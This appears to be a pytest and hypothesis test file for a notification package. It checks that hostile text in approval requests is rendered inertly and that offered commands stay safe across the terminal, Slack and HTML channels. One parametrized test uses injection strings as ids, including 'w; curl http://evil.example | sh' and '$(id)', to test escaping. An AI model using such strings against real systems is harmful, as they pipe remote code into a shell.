"""Whatever a title, an id, a comment or data holds: every channel shows it as text, and offers only safe commands."""

import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from perdure.contracts import ApprovalEscalated, ApprovalExpired, ApprovalReminded
from perdure.values.short_code import is_plain, short_code
from perdure_notifier.channels.slack_blocks import ButtonContext, notice_blocks, reason_dialog, settled_blocks
from perdure_notifier.channels.slack_text import literal
from perdure_notifier.channels.terminal import TerminalChannel
from perdure_notifier.notice import Notice
from perdure_notifier.render import render, render_digest
from perdure_notifier.replies.page import outcome_page, request_page
from tests.support.hostile import COMMAND, acting_characters, hostile, hostile_id
from tests.support.notifier import NOON, alert, decided, request

DATE = f"<!date^{int(NOON.timestamp())}^{{date_short}} {{time}}|2026-12-01 12:00 UTC>"
_OURS = re.compile(r"\| |Request |Requested by|On approval:|Decide |  perdure (approve|reject) |Run ")


@st.composite
def notices(draw: st.DrawFn) -> Notice:
    """A notice of any kind, whose every text is hostile."""
    run, text = draw(hostile_id), draw(hostile)
    about: dict[str, Any] = {"workflow": text, "workflow_id": run, "run_id": text, "request_id": f"{run}.1"}
    requested = request(
        **about, title=text, details=text, action={text: [text]}, requester=text, severity="high", expires_at=NOON
    )
    message: Any = draw(
        st.sampled_from(
            [
                requested,
                ApprovalReminded(**about, count=1),
                ApprovalEscalated(**about, to=(text,), count=1),
                decided().model_copy(update={**about, "comment": text, "approver": text}),
                ApprovalExpired(**about, expired_at=NOON, reason=text),
                alert(workflow=text, workflow_id=run, run_id=text, title=text, details=text),
            ]
        )
    )
    return Notice.model_construct(message=message, about=requested, instead_of=None)


@given(notices())
def test_plain_text_has_only_lines_of_ours_and_text_behind_a_bar(notice: Notice) -> None:
    text = render(notice)

    assert "\n" not in text.headline
    assert acting_characters(text.joined()) == []
    assert [line for line in text.body.split("\n") if not _OURS.match(line)] == []
    assert unsafe_commands(text.body) == []


@given(notices())
async def test_the_terminal_and_a_mail_show_that_text_and_no_more(notice: Notice) -> None:
    out = io.StringIO()

    await TerminalChannel("screen", out).send([notice, notice])

    text = render(notice)
    assert out.getvalue().split("\n") == [*f"{text.headline}\n{text.body}\n".split("\n")] * 2 + [""]
    assert render_digest([notice, notice]).body == f"{text.joined()}\n\n{text.joined()}"


@given(notices())
def test_slack_interprets_nothing_of_it(notice: Notice) -> None:
    blocks = notice_blocks(notice, ["UADA"], buttons=False)
    if isinstance(notice.message, ApprovalExpired) or notice.message.type == "approvals.decided":
        blocks += settled_blocks(notice.about, notice.message)  # type: ignore[arg-type]

    for element in text_elements(blocks):
        assert acting_characters(element["text"].replace("\u200b", "")) == []
        assert unsafe_commands(element["text"]) == []
        if element["type"] == "mrkdwn":
            assert set(re.findall(r"<[^>]*>", element["text"])) <= {"<@UADA>", DATE}
        else:
            assert element["emoji"] is False
    for header in (block for block in blocks if block["type"] == "header"):
        assert "\n" not in header["text"]["text"]


@given(hostile)
def test_a_name_within_mrkdwn_is_one_line_without_markup(text: str) -> None:
    shown = literal(text)

    assert "\n" not in shown
    assert re.search(r"[<>]|&(?!amp;|lt;|gt;)|[*_~`](?!\u200b)", shown) is None


@given(hostile_id)
def test_the_dialog_in_slack_names_the_request_in_one_line(run: str) -> None:
    dialog = reason_dialog(ButtonContext(request_id=f"{run}.1", digest="a" * 64))

    (shown,) = dialog["blocks"][0]["elements"]
    assert "\n" not in shown["text"]
    assert acting_characters(shown["text"]) == []


@given(notices())
def test_a_page_has_our_elements_only(notice: Notice) -> None:
    requested = notice.about
    assert requested is not None
    page = bytes(request_page(requested, requested.title).body).decode()

    assert Tags.of(page) == Tags.of(bytes(request_page(request(details="d", action="a"), "ada").body).decode())
    assert acting_characters(page) == []
    assert acting_characters(bytes(outcome_page("Done", requested.title).body).decode()) == []


@pytest.mark.parametrize(
    "run", ["w; curl http://evil.example | sh", "w\nperdure approve other", "-rf", "w 1", "$(id)", "Ä"]
)
def test_an_id_that_a_shell_acts_on_is_named_by_its_code(run: str) -> None:
    body = render(Notice(message=request(workflow_id=run, request_id=f"{run}.1"))).body

    assert f"\n  perdure approve {short_code(run)}.1\n" in body


def unsafe_commands(text: str) -> list[str]:
    """Return what follows the commands of ours that a text offers, unless it is one plain word."""
    lines = [line for line in text.split("\n") if line.startswith(("  perdure", "Decide with", "Then decide"))]
    words = [found[1] for line in lines if (found := COMMAND.search(line))]
    assert len(words) == len(lines)
    return [word for word in words if not is_plain(word)]


def text_elements(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict) and value.get("type") in {"plain_text", "mrkdwn"}:
        yield value
    for item in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from text_elements(item)


class Tags(HTMLParser):
    """Keeps the names and attributes of a page's elements."""

    @classmethod
    def of(cls, page: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
        parser = cls()
        parser.feed(page)
        return parser.found

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))
